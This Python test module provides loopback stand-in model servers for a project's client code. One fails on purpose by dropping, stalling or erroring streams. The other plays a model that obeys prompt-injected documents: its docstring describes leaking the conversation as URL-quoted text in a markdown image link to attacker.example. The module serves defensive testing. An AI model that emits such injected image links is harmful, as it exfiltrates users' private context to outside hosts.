"""A model server that fails on purpose: the faults a real llama.cpp or TGI cannot be made to
show on demand (dying mid-stream, stalling, answering 500, being slow). It speaks the same
OpenAI-style streaming chat API, so kb's real client code talks to it unchanged.

Only tests that provoke one of these faults use it; everything else uses the real server.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote


@dataclass
class Behaviour:
    tokens: list[str] = field(default_factory=lambda: [f"word{i} " for i in range(400)])
    # Seconds before the response starts (a slow or overloaded server).
    delay_before: float = 0.0
    # Seconds between tokens (a slow stream that a disconnect should cut short).
    delay_between: float = 0.0
    # After this many tokens: "die" (drop the connection), "stall" (send nothing more).
    fail_after: int | None = None
    failure: str = "die"
    # Answer every request with this HTTP status and no stream.
    status: int = 200


@dataclass
class Record:
    requests: list[dict] = field(default_factory=list)
    tokens_sent: int = 0
    client_went_away: bool = False
    finished: threading.Event = field(default_factory=threading.Event)
    streams_open: int = 0  # streams begun and not yet ended, for leak counts
    streams_most: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # chunked bodies, so a dropped connection reads as broken
    behaviour: Behaviour
    record: Record

    def log_message(self, *args) -> None:  # keep test output clean
        pass

    def do_GET(self) -> None:  # /v1/models, /health
        self._json(200, {"object": "list", "data": [{"id": "failing-standin", "object": "model"}]})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.record.requests.append(json.loads(body or b"{}"))
        b = self.behaviour
        time.sleep(b.delay_before)
        if b.status != 200:
            self._json(b.status, {"error": "failing on purpose"})
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        with self.record.lock:
            self.record.streams_open += 1
            self.record.streams_most = max(self.record.streams_most, self.record.streams_open)
        try:
            for i, token in enumerate(b.tokens):
                if b.fail_after is not None and i == b.fail_after:
                    if b.failure == "stall":
                        time.sleep(3600)
                    self.close_connection = True
                    self.connection.shutdown(2)  # die mid-stream: no final chunk, no [DONE]
                    return
                self._chunk(_event(token))
                self.record.tokens_sent += 1
                time.sleep(b.delay_between)
            self._chunk(_event("", finish="stop"))
            self._chunk(b"data: [DONE]\n\n")
            self.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            self.record.client_went_away = True
            self.close_connection = True
        finally:
            with self.record.lock:
                self.record.streams_open -= 1
            self.record.finished.set()

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()

    def _json(self, status: int, payload: dict) -> None:
        send_json(self, status, payload)


def start_loopback_server(handler: type[BaseHTTPRequestHandler]) -> ThreadingHTTPServer:
    """`handler` served on a free port of 127.0.0.1 by a thread; shut it down with stop_server."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    return server


def stop_server(server: ThreadingHTTPServer) -> None:
    server.shutdown()
    server.server_close()


@contextmanager
def loopback_server(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    """Serve `handler` on 127.0.0.1 for the block; yields the base URL."""
    server = start_loopback_server(handler)
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        stop_server(server)


class LoopbackStandin:
    """A stand-in server object: `with Standin(...) as s:` serves `handler_class` (given `standin`)."""

    handler_class: type[BaseHTTPRequestHandler]
    _server: ThreadingHTTPServer | None = None

    def start(self):
        self._server = start_loopback_server(type("Handler", (self.handler_class,), {"standin": self}))
        return self

    def stop(self) -> None:
        if self._server is not None:
            stop_server(self._server)

    def __enter__(self):
        return self.start()

    def __exit__(self, *_: object) -> None:
        self.stop()


def send_json(handler: BaseHTTPRequestHandler, status: int, payload) -> None:
    """Answer a stand-in's request with `payload` as JSON (the reranker stand-in uses it too)."""
    data = json.dumps(payload).encode()
    handler.send_response(status)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)


def _event(content: str, finish: str | None = None) -> bytes:
    chunk = {
        "id": "standin",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": "failing-standin",
        "choices": [{"index": 0, "delta": {"role": "assistant", "content": content}, "finish_reason": finish}],
    }
    return f"data: {json.dumps(chunk)}\n\n".encode()


@contextmanager
def failing_model_server(behaviour: Behaviour) -> Iterator[tuple[str, Record]]:
    """Run the stand-in on a free port: yields (base URL, what it saw and sent)."""
    record = Record()
    handler = type("Handler", (_Handler,), {"behaviour": behaviour, "record": record})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", record
    finally:
        server.shutdown()
        server.server_close()


# --- a model that obeys injected instructions (issue 17) -----------------------------------


class _InjectionObeyingHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    standin: InjectionObeyingModelStandin

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:  # /v1/models, /health
        send_json(self, 200, {"object": "list", "data": [{"id": "obeying-standin", "object": "model"}]})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
        self.standin.prompts.append(body.get("messages", []))
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        answer = self.standin.answer_to(body.get("messages", []))
        # A few pieces, cut mid-markup, as a real model's tokens are.
        step = max(1, len(answer) // 7)
        for start in range(0, len(answer), step):
            self._chunk(_event(answer[start : start + step]))
        self._chunk(_event("", finish="stop"))
        self._chunk(b"data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


class InjectionObeyingModelStandin(LoopbackStandin):
    """A model server whose model does whatever a prompt-injected document tells it to.

    The real demo model cannot be made to obey an injection on demand, so this stand-in plays
    the worst case: it answers every chat with `answer`, `{context}` in it replaced by the
    URL-quoted text of everything it was sent (what a model told "write
    ![](https://attacker.example/?q=…)" would leak). `prompts` keeps every request's messages.
    """

    handler_class = _InjectionObeyingHandler

    def __init__(self, answer: str) -> None:
        self.answer = answer
        self.prompts: list[list[dict]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def answer_to(self, messages: list[dict]) -> str:
        context = " ".join(str(m.get("content", "")) for m in messages)
        return self.answer.replace("{context}", quote(context[:500]))
